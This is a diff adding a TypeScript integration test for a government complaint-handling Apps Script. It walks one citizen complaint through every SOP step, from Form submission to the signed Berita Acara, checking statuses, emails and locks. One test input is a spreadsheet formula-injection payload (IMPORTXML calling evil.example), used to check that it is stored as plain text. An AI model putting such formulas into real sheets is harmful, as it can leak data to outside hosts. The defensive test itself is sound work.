@@ -1,0 +1,104 @@
+/**
+ * The whole procedure in the built Apps Script: a citizen's Form submission, then every SOP step
+ * taken by the role that owns it through its own menu, its dialog and the dialog's server call.
+ */
+import { describe, expect, it } from 'vitest';
+import { ACTIONS, WAITING_FOR } from '../../core/sop.js';
+import { STATUS_LABEL } from '../../sheets-schema/index.js';
+import { dayFromIso, wibInstant } from '../../core/time.js';
+import { ALL_PERSYARATAN, history, office, openAction, register, STAFF, submit, type Office, type Role } from './fixture.js';
+
+interface Step {
+  readonly role: Role;
+  readonly aksi: keyof typeof ACTIONS;
+  readonly masukan: Record<string, unknown>;
+  readonly status: keyof typeof STATUS_LABEL;
+  /** The day it happens (WIB, 14:00); the start day otherwise. */
+  readonly on?: string;
+}
+
+const HEAVY_PATH: readonly Step[] = [
+  { role: 'petugas', aksi: 'periksa', masukan: { persyaratan: ALL_PERSYARATAN }, status: 'DIPERIKSA' },
+  { role: 'subkoordinator', aksi: 'nilai', masukan: { kategori: 'berat', alasan: 'Menyangkut izin lingkungan; perlu tim teknis.' }, status: 'DILAPORKAN_PIMPINAN' },
+  { role: 'kepala', aksi: 'disposisi', masukan: { disposisi: 'Koordinator segera rapatkan dengan DLH.' }, status: 'DISPOSISI_KOORDINATOR' },
+  { role: 'koordinator', aksi: 'perintah_undangan', masukan: { instruksi: 'Undang DLH dan pemilik bengkel.' }, status: 'UNDANGAN_DISIAPKAN' },
+  {
+    role: 'subkoordinator',
+    aksi: 'kirim_undangan',
+    masukan: {
+      tanggal: '2026-11-26',
+      jam: '09:00',
+      tempat: 'Ruang Rapat DPMPTSP',
+      agenda: 'Pembahasan pengaduan kebisingan bengkel las',
+      undangan: [
+        { nama: 'Kepala DLH', instansi: 'DLH Kota Payakumbuh', kelompok: 'opd_terkait' },
+        { nama: 'Pemilik Bengkel Las Maju Jaya', instansi: '', kelompok: 'pemilik_usaha' },
+      ],
+    },
+    status: 'RAPAT_DIJADWALKAN',
+  },
+  {
+    role: 'subkoordinator',
+    aksi: 'catat_hasil_rapat',
+    on: '2026-11-26',
+    masukan: {
+      hadir: [{ nama: 'Drs. Zulkifli', instansi: 'DLH' }],
+      pembahasan: 'Bengkel beroperasi melewati jam yang diizinkan.',
+      kesimpulan: 'Pemilik membatasi jam kerja sampai pukul 21.00.',
+      tindak_lanjut: [{ uraian: 'Pemantauan', pelaksana: 'DLH', tenggat: '2026-12-15' }],
+    },
+    status: 'DRAFT_BA',
+  },
+  { role: 'koordinator', aksi: 'paraf_koordinator', masukan: {}, status: 'PARAF_KOORDINATOR', on: '2026-11-27' },
+  { role: 'sekretaris', aksi: 'paraf_sekretaris', masukan: { koreksi: 'Redaksi kesimpulan diperbaiki.' }, status: 'PARAF_SEKRETARIS', on: '2026-11-27' },
+  { role: 'kepala', aksi: 'tandatangani', masukan: {}, status: 'DITANDATANGANI', on: '2026-11-30' },
+  { role: 'petugas', aksi: 'serahkan', masukan: { cara: 'langsung', catatan: 'Diterima langsung oleh pelapor.' }, status: 'SELESAI', on: '2026-12-01' },
+];
+
+function take(o: Office, nomor: string, step: Step): Record<string, unknown> {
+  if (step.on) o.s.setNow(wibInstant(dayFromIso(step.on), 14, 0));
+  const model = openAction(o, step.role, nomor, ACTIONS[step.aksi].label);
+  expect(model.terpilih).toBe(nomor);
+  expect((model.kolom as { key: string }[]).map((k) => k.key)).toEqual(ACTIONS[step.aksi].inputs.map((f) => f.key));
+  return o.s.call('kirimAksi', { aksi: step.aksi, nomor, masukan: step.masukan }) as Record<string, unknown>;
+}
+
+describe('a complaint from the Form to the delivered Berita Acara, through the menus', () => {
+  it('registers once, walks all twelve SOP steps, and mails whoever must act next', async () => {
+    const o = await office();
+    const ev = submit(o, { 'Isi pengaduan': '=IMPORTXML("http://evil.example/x", "//a")' });
+    o.s.call('onFormSubmit', ev); // the trigger fires twice
+    const rows = register(o);
+    expect(rows).toHaveLength(1);
+    const row = rows[0] ?? {};
+    const nomor = String(row['Nomor Registrasi']);
+    expect(nomor).toMatch(/^PGD-2026-\d{4}$/);
+    expect(row.Status).toBe('DITERIMA');
+    expect(row['Isi Pengaduan']).toBe('=IMPORTXML("http://evil.example/x", "//a")');
+    expect(row['Jatuh Tempo']).toBe('2026-12-03');
+    expect(row['Telepon/WhatsApp Pelapor']).toBe('081266110001');
+    expect(o.dokumenCalls[0]).toMatchObject({ nomor, jenis: ['tanda_terima', 'lembar_pengaduan'], lampiran: true });
+    expect(o.dokumenCalls[0]?.token).not.toBe('');
+    const receipt = o.s.fakes.state.mails.find((m) => m.to.includes('siti.rahmah@contoh.id'));
+    expect(receipt?.subject).toBe(`Tanda terima pengaduan ${nomor}`);
+    expect(receipt?.body).toContain(String(row['Kode Akses']));
+    expect(receipt?.attachments).toEqual([`${nomor}_tanda_terima.docx`]);
+    expect(o.s.fakes.state.mails.some((m) => m.to.includes(STAFF.petugas))).toBe(true);
+    expect(o.s.fakes.state.heldLocks).toEqual([]);
+
+    for (const step of HEAVY_PATH) {
+      const mailsBefore = o.s.fakes.state.mails.length;
+      const result = take(o, nomor, step);
+      expect(result, `${step.aksi}: ${JSON.stringify(result)}`).toMatchObject({ ok: true, nomor, status: STATUS_LABEL[step.status] });
+      expect(register(o)[0]?.Status).toBe(step.status);
+      expect(o.s.fakes.state.heldLocks).toEqual([]);
+      const next = WAITING_FOR[step.status];
+      if (next && next !== step.role) expect(o.s.fakes.state.mails.length, `${step.aksi} mails the next role`).toBeGreaterThan(mailsBefore);
+    }
+    const final = register(o)[0] ?? {};
+    expect(final['Nomor Berita Acara']).toMatch(/BA/);
+    expect(final['Status SLA']).toBe('SELESAI_TEPAT_WAKTU');
+    expect(history(o).map((h) => h.Aksi)).toEqual(['catat', ...HEAVY_PATH.map((s) => s.aksi)]);
+    expect(history(o).every((h) => h['Nomor Registrasi'] === nomor)).toBe(true);
+  });
+});
